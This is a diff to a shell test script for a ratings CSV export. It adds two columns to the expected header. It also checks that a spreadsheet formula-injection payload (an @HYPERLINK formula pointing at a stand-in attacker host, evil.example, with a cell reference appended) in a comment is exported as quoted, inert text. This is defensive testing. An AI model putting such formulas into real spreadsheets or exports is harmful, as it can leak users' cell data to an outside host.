@@ -24,11 +24,11 @@ cox -C "$W" export ratings --csv
 is "$rc" 0 "cox export ratings exits 0"
 printf '%s' "$out" >"$T/ratings.csv"
 rows=$(csvrows "$T/ratings.csv") || fail "Python's csv module reads it"
-is "$(printf '%s\n' "$rows" | head -1)" "Date|Name|Handle|Squads|Metric|By|Score|Comment" "with a header row"
+is "$(printf '%s\n' "$rows" | head -1)" "Date|Name|Handle|Squads|Metric|By|Score|Comment|Watts|W/kg" "with a header row"
 is "$(( $(printf '%s\n' "$rows" | wc -l) - 1 ))" "$(sql "$db" "SELECT count(*) FROM rating")" \
 	"and one record per rating in the database"
 like "$(printf '%s\n' "$rows" | grep '^2026-11-21|Jane Doe')" \
-	"\\|coach\\|4\\|'@HYPERLINK\\(\"http://evil.example/\\?\"&A1,\"click\"\\)$" \
+	"\\|coach\\|4\\|'@HYPERLINK\\(\"http://evil.example/\\?\"&A1,\"click\"\\)\\|\\|$" \
 	"a comment a spreadsheet would run as a formula stays text, whole"
 like "$(grep -a 'HYPERLINK' "$T/ratings.csv")" ",\"'@HYPERLINK\\(\"\"http" "quoted, its quotes doubled"
 
